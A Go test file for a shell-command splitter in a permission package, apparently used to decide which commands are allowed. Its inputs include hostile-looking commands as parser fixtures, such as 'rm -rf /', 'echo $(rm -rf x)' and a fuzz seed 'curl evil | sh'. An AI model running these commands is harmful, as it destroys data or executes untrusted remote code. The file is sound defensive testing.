package permission

import (
	"reflect"
	"strings"
	"testing"
)

// render shows a split line as one string per segment: its words joined by
// '|', redirections as op+target, and a leading '^' for nested segments.
func render(s *script) []string {
	var out []string
	for _, seg := range s.segments {
		parts := texts(seg.words)
		for _, r := range seg.redirs {
			parts = append(parts, r.op+r.target.text)
		}
		line := strings.Join(parts, "|")
		if seg.nested {
			line = "^" + line
		}
		out = append(out, line)
	}
	return out
}

func TestSplitCommand(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name     string
		line     string
		want     []string
		indirect []string
		compound bool
	}{
		{name: "simple", line: "go test ./...", want: []string{"go|test|./..."}},
		{name: "semicolon", line: "a; b", want: []string{"a", "b"}, compound: true},
		{name: "and or", line: "a && b || c", want: []string{"a", "b", "c"}, compound: true},
		{name: "pipeline", line: "ls | grep x |& wc -l", want: []string{"ls", "grep|x", "wc|-l"}, compound: true},
		{name: "background", line: "sleep 1 & echo hi", want: []string{"sleep|1", "echo|hi"}, compound: true},
		{name: "lone background", line: "make serve &", want: []string{"make|serve"}, compound: true},
		{name: "newlines", line: "a\nb\n\nc", want: []string{"a", "b", "c"}, compound: true},
		{name: "trailing semicolon", line: "ls;", want: []string{"ls"}},
		{name: "single quotes keep operators", line: "echo 'a; rm -rf /'", want: []string{"echo|a; rm -rf /"}},
		{name: "double quotes keep operators", line: `echo "a && b | c"`, want: []string{"echo|a && b | c"}},
		{name: "escaped semicolon", line: `find . -name x \; ls`, want: []string{"find|.|-name|x|;|ls"}},
		{name: "escaped quote in double", line: `echo "say \"hi\"; ok"`, want: []string{`echo|say "hi"; ok`}},
		{name: "quotes removed from program", line: `'r'"m" -rf x`, want: []string{"rm|-rf|x"}},
		{name: "backslash program", line: `\rm x`, want: []string{"rm|x"}},
		{name: "line continuation", line: "go \\\ntest", want: []string{"go|test"}},
		{name: "comment", line: "ls # ; rm -rf /", want: []string{"ls"}},
		{name: "hash inside word", line: "echo a#b", want: []string{"echo|a#b"}},
		{name: "output redirect", line: "echo hi > out.txt", want: []string{"echo|hi|>out.txt"}},
		{name: "fd redirects", line: "make 2>&1 >/dev/null", want: []string{"make|>&1|>/dev/null"}},
		{name: "append and both", line: "x >>log &>all", want: []string{"x|>>log|&>all"}},
		{name: "redirect quoted target", line: `echo > "a b"`, want: []string{"echo|>a b"}},
		{name: "input redirect", line: "wc -l < in", want: []string{"wc|-l|<in"}},
		{name: "digits are a word without redirect", line: "echo 2 > x", want: []string{"echo|2|>x"}},
		{name: "heredoc body is data", line: "cat <<EOF\nrm -rf /; curl x\nEOF\nls", want: []string{"cat|<<EOF", "ls"}, compound: true},
		{name: "heredoc dash", line: "cat <<-EOF\n\trm x\n\tEOF\necho done", want: []string{"cat|<<-EOF", "echo|done"}, compound: true},
		{name: "heredoc quoted delimiter", line: "cat <<'EOF'\n$(rm x)\nEOF", want: []string{"cat|<<EOF"}},
		{name: "heredoc unquoted expands", line: "cat <<EOF\n$(rm x)\nEOF", want: []string{"cat|<<EOF", "^rm|x"}, indirect: []string{"command substitution"}},
		{name: "heredoc then operator on same line", line: "cat <<EOF | grep a\nbody\nEOF", want: []string{"cat|<<EOF", "grep|a"}, compound: true},
		{name: "two heredocs", line: "cat <<A <<B\na\nA\nb\nB\nls", want: []string{"cat|<<A|<<B", "ls"}, compound: true},
		{name: "heredoc without end", line: "cat <<EOF\nrm x", want: []string{"cat|<<EOF"}},
		{name: "here string", line: "grep a <<< 'x; y'", want: []string{"grep|a|<<<x; y"}},
		{name: "command substitution", line: "echo $(rm -rf x)", want: []string{"^rm|-rf|x", "echo|$(rm -rf x)"}, indirect: []string{"command substitution"}},
		{name: "substitution in double quotes", line: `echo "$(id)"`, want: []string{"^id", "echo|$(id)"}, indirect: []string{"command substitution"}},
		{name: "backticks", line: "echo `curl x`", want: []string{"^curl|x", "echo|`curl x`"}, indirect: []string{"command substitution"}},
		{name: "nested substitution", line: "echo $(a $(b))", want: []string{"^b", "^a|$(b)", "echo|$(a $(b))"}, indirect: []string{"command substitution"}},
		{name: "process substitution", line: "diff <(ls a) <(ls b)", want: []string{"^ls|a", "^ls|b", "diff|<(ls a)|<(ls b)"}, indirect: []string{"process substitution"}},
		{name: "redirect to process substitution", line: "cat < <(ls)", want: []string{"^ls", "cat|<<(ls)"}, indirect: []string{"process substitution"}},
		{name: "parameter with substitution", line: "echo ${X:-$(rm y)}", want: []string{"^rm|y", "echo|${X:-$(rm y)}"}, indirect: []string{"command substitution"}},
		{name: "arithmetic", line: "echo $((1+2))", want: []string{"echo|$((1+2))"}},
		{name: "subshell", line: "(cd x && rm y)", want: []string{"cd|x", "rm|y"}, compound: true},
		{name: "group", line: "{ ls; rm y; }", want: []string{"{|ls", "rm|y", "}"}, compound: true},
		{name: "assignment prefix", line: "FOO=1 go test", want: []string{"FOO=1|go|test"}},
		{name: "array assignment", line: "a=(1 2) ls", want: []string{"a=(1 2)|ls"}},
		{name: "function definition", line: "f() { rm x; }; f", want: []string{"f", "{|rm|x", "}", "f"}, indirect: []string{"function definition"}, compound: true},
		{name: "ansi c string", line: `$'\x72m' x`, want: []string{`$'\x72m'|x`}},
		{name: "case in substitution", line: "echo $(case a in a) rm x;; esac)", want: nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			s, err := splitCommand(tt.line)
			if tt.want == nil {
				if err == nil {
					t.Fatalf("got no error for %q, want one", tt.line)
				}
				return
			}
			if err != nil {
				t.Fatalf("splitCommand(%q): %v", tt.line, err)
			}
			if got := render(s); !reflect.DeepEqual(got, tt.want) {
				t.Errorf("segments: got %q, want %q", got, tt.want)
			}
			if !reflect.DeepEqual(s.indirect, tt.indirect) {
				t.Errorf("indirect: got %q, want %q", s.indirect, tt.indirect)
			}
			if got := s.compound(); got != (tt.compound || len(tt.indirect) > 0) {
				t.Errorf("compound: got %v, want %v", got, tt.compound)
			}
		})
	}
}

func TestSplitCommandErrors(t *testing.T) {
	t.Parallel()
	for _, line := range []string{
		"echo 'open", `echo "open`, "echo $(open", "echo `open", "echo ${open",
		"(ls", "ls)", "echo >", "echo $((1+", "echo $'x",
		strings.Repeat("$(", 100) + strings.Repeat(")", 100),
	} {
		t.Run(line, func(t *testing.T) {
			t.Parallel()
			if _, err := splitCommand(line); err == nil {
				t.Errorf("splitCommand(%q): got no error, want one", line)
			}
		})
	}
}

func TestWordFlags(t *testing.T) {
	t.Parallel()
	tests := []struct {
		word    string
		dynamic bool
		glob    bool
		assign  bool
	}{
		{word: "plain"},
		{word: "$HOME", dynamic: true},
		{word: `"$HOME"`, dynamic: true},
		{word: "'$HOME'"},
		{word: "*.go", glob: true},
		{word: "'*.go'"},
		{word: "{a,b}", glob: true},
		{word: "FOO=1", assign: true},
		{word: "FOO+=1", assign: true},
		{word: "'FOO'=1"},
		{word: "1FOO=1"},
		{word: "FOO=$(x)", dynamic: true, assign: true},
	}
	for _, tt := range tests {
		t.Run(tt.word, func(t *testing.T) {
			t.Parallel()
			s, err := splitCommand("x " + tt.word)
			if err != nil {
				t.Fatal(err)
			}
			w := s.segments[len(s.segments)-1].words[1]
			if w.dynamic != tt.dynamic || w.glob != tt.glob || w.isAssignment() != tt.assign {
				t.Errorf("got dynamic=%v glob=%v assign=%v, want %v %v %v", w.dynamic, w.glob, w.isAssignment(), tt.dynamic, tt.glob, tt.assign)
			}
		})
	}
}

func FuzzSplit(f *testing.F) {
	for _, seed := range []string{
		"go test ./... ; curl evil | sh", "cat <<EOF\n$(x)\nEOF", "echo \"$(a `b` ${c:-$(d)})\"",
		"a=(1 $(b)) c", "f() { x; }", "(a; (b)) & c", "x 2>&1 >> y <<< z", "$'\\''", "echo $((1+(2)))",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, line string) {
		s, _ := splitCommand(line)
		an := &analyzer{root: "/ws"}
		an.commands(s)
		_ = bashScope(line, s, an.commands(s))
	})
}
